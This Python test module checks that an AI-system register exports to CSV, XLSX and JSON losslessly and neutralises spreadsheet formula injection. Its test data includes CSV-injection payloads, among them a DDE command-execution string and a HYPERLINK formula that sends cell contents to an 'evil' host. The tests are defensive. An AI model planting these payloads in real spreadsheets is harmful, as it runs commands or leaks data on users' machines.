"""What is exported comes back without loss, whatever stands in it, and no spreadsheet runs it."""

import csv
import io
import tempfile
from itertools import count
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from aims_core import InvalidRecord, create_workspace, formula_restored, formula_safe
from aims_core.inventory.content import check_content
from aims_core.testing.fixtures import TICKET_TRIAGE

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "'=1+1",
    "''",
    "'quoted'",
    '=HYPERLINK("http://evil/?"&A1)',
    "-5",
    "+49 30 1234",
]
TRICKY = [
    *("N/A", "unknown", "none", "-", "a,b;c\td|e", 'say "hi"', "a\r\nb\rc\nd"),
    *("_x000D_", "_x005F_x0041_", "{name}", "[1]", '{"a": 1}', '"a"', '"', "true", "007", "1.10"),
    *("NO", "\u2028", "1e5", "a\x85b", "<b>&amp;", "]]>", "e\u0301", "\U0001f469\u200d\U0001f4bb"),
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_made_text_and_comes_back(text):
    safe = formula_safe(text)

    assert safe.startswith("'")
    assert formula_restored(safe) == text


@settings(deadline=None)
@given(st.text())
def test_what_was_made_safe_comes_back_and_does_nothing(text):
    safe = formula_safe(text)

    assert formula_restored(safe) == text
    assert not safe.lstrip(" \u3000").startswith(DANGEROUS)


def texts(longest=60):
    """Texts that the register may hold, with the ones that make trouble among them."""
    tricky = st.sampled_from([*FORMULAS, *TRICKY])
    return tricky | st.text(max_size=longest)


def values():
    scalars = st.none() | st.booleans() | st.integers(-(2**53), 2**53) | texts(20)
    return st.recursive(
        scalars | st.floats(allow_nan=False, allow_infinity=False),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(texts(8), inner, max_size=3),
        max_leaves=5,
    )


@st.composite
def descriptions(draw):
    """Descriptions of systems that the register takes."""
    made = {
        **TICKET_TRIAGE,
        "name": draw(texts()),
        "use_case": draw(texts()),
        "unit": draw(texts(20)),
        "supplier": draw(texts()),
        "intended_use": draw(texts()),
        "human_oversight": draw(texts()),
        "incident_contact": draw(texts()),
        "attributes": draw(st.dictionaries(texts(8), values(), max_size=4)),
        "origin": draw(st.sampled_from(["in_house", "third_party", "joint", "unknown"])),
    }
    content, problems = check_content(made)
    # What the register refuses cannot be exported; the rest of the example still counts.
    refused = {p.field for p in problems}
    sound = {
        name: TICKET_TRIAGE.get(name, {}) if name in refused else v for name, v in content.items()
    }
    return {**sound, "supplier": "" if "supplier" in refused else sound["supplier"]}


@pytest.fixture
def elsewhere(tmp_path_factory):
    """Give another workspace to import into, with the same people."""
    made = create_workspace(
        tmp_path_factory.mktemp("elsewhere") / "ws", organisation="Other", administrator="ada"
    )
    made.staffing.add("olga", "Olga")
    yield made
    made.close()


@pytest.mark.parametrize("aims_database", ["sqlite", "postgresql"])
@settings(
    max_examples=8,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(st.lists(descriptions(), min_size=1, max_size=6))
def test_every_form_comes_back_as_the_very_same_descriptions(workspace, elsewhere, systems):
    ids = count(workspace.inventory.find()[1])
    made = {}
    for described in systems:
        system_id = f"s{next(ids)}"
        made[system_id] = workspace.act_as("olga").inventory.register(system_id, **described).digest
    with tempfile.TemporaryDirectory() as folder:
        for suffix in (".csv", ".xlsx", ".json"):
            path = Path(folder) / f"register{suffix}"
            workspace.inventory.export(path)

            here = workspace.inventory.import_file(path, dry_run=True)
            there = elsewhere.inventory.import_file(path)

            changed = [(c.system_id, c.fields) for c in here.changes if c.fields]
            assert (suffix, changed[:2], here.refused) == (suffix, [], ())
            assert (there.revised, there.refused) == (0, ())
            for system_id, digest in made.items():
                assert elsewhere.inventory.get(system_id).digest == digest


@pytest.fixture
def filled(workspace, ines, described):
    for number, text in enumerate(FORMULAS):
        ines.inventory.register(f"s{number:02}", **described(use_case=f".{text}", supplier=text))
        ines.inventory.register(f"t{number:02}", **described(name=text.strip() or "x"))
    return workspace


def test_no_cell_of_an_export_is_a_formula(filled, tmp_path):
    assert filled.inventory.export(tmp_path / "a.csv") == 2 * len(FORMULAS)
    filled.inventory.export(tmp_path / "a.xlsx")

    text = (tmp_path / "a.csv").read_bytes().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [cell for cell in cells if cell.lstrip(" \u3000").startswith(DANGEROUS)]
    sheet = load_workbook(tmp_path / "a.xlsx").active
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "inlineStr", "n"}
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f" or c.hyperlink]
    assert {c.value for row in sheet.iter_rows() for c in row if c.data_type == "n"} <= {None}


def test_an_export_is_the_same_each_time_and_never_writes_over_another_file(filled, tmp_path):
    for name in ("a.csv", "a.xlsx", "a.json"):
        path = tmp_path / name
        filled.inventory.export(path)
        before = path.read_bytes()
        filled.inventory.export(path)
        assert path.read_bytes() == before
        path.write_text("mine", encoding="utf-8")
        with pytest.raises(InvalidRecord, match="another file lies there"):
            filled.inventory.export(path)
        filled.inventory.export(path, replace=True)
        assert path.read_bytes() == before
    with pytest.raises(InvalidRecord, match="no form of an export"):
        filled.inventory.export(tmp_path / "a.pickle")
    with pytest.raises(InvalidRecord, match="cannot be written"):
        filled.inventory.export(tmp_path / "absent" / "a.csv")


def test_a_text_that_no_cell_holds_is_named_and_the_others_forms_take_it(ines, described, tmp_path):
    ines.inventory.register("long", **described(attributes={"a": "x" * 40_000}))

    with pytest.raises(InvalidRecord, match=r"attributes of long has .* characters"):
        ines.inventory.export(tmp_path / "a.xlsx")
    assert not (tmp_path / "a.xlsx").exists()
    ines.inventory.export(tmp_path / "a.csv")
    assert ines.inventory.import_file(tmp_path / "a.csv").unchanged == 1


def test_the_federal_inventory_goes_out_and_comes_back(ines, tmp_path):
    ines.discovery.import_file(*ines.discovery.sample())
    for name in ("a.csv", "a.xlsx", "a.json"):
        ines.inventory.export(tmp_path / name)

        again = ines.inventory.import_file(tmp_path / name, dry_run=True)

        assert (again.unchanged, again.revised, again.refused) == (1_745, 0, ())
